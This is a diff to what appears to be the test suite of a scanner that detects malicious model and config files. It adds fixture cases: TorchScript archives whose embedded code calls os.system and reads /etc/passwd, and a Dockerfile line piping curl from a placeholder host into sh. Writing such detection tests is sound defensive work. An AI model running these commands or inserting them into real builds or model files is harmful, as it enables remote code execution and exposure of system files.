@@ -162,6 +162,7 @@ ATTACKS = frozenset(
     (
         *(f"code/python-{name}" for name in PYTHON),
         *(f"code/script-{name}" for name in SCRIPTS),
+        *("torch/script-danger", "torch/script-file", "code/recipe"),
         *("code/hub-kernel", "code/yaml-tag", "code/yaml-tag-name", "code/yaml-tag-long"),
         *("code/yaml-tag-handle", "code/diffusers-os", "code/modules-os", "code/modules-list"),
         *("code/activation", "code/hydra-json", "code/hydra-builtin", "code/in-nemo"),
@@ -202,6 +203,14 @@ TORCH: dict[str, tuple[str, bytes]] = {
     "script-case": ("torchscript", zipped(*TORCH_ZIP, ("archive/CONSTANTS.PKL", b"\x80\x02)."))),
     "mobile": ("torchscript", zipped(*TORCH_ZIP, ("archive/bytecode.pkl", b"\x80\x02)."))),
     "package": ("torch-package", zipped(*TORCH_ZIP, ("m/.data/extern_modules", b"os\n"))),
+    "script-danger": (
+        "python-danger",
+        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"import os\nos.system('true')\n")),
+    ),
+    "script-file": (
+        "torchscript-file",
+        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"x = torch.from_file('/etc/passwd')\n")),
+    ),
     "compiled": ("torch-package", zipped(("m/data/aotinductor/model/x.so", b"\x7fELF"))),
     "flat-mobile": ("torch-program", b"\x10\0\0\0PTMF" + b"\0" * 60),
     "executorch": ("torch-program", b"\x10\0\0\0ET12" + b"\0" * 60),
@@ -218,6 +227,7 @@ def malicious() -> list[Case]:
     return [
         *cases,
         Case("code/hub-kernel", {"config.json": dump(KERNEL)}, "hub-kernel"),
+        Case("code/recipe", {"Dockerfile": b"RUN curl http://a.b/x | sh\n"}, "script-danger"),
         Case("code/script", {"run.bat": b"echo\n"}, "script-file"),
         Case("code/in-nemo", {"m.nemo": tarred(hydra)}, "hydra-target"),
         Case("code/in-nemo-gzip", {"m.nemo": tarred(hydra, mode="w:gz")}, "hydra-target"),
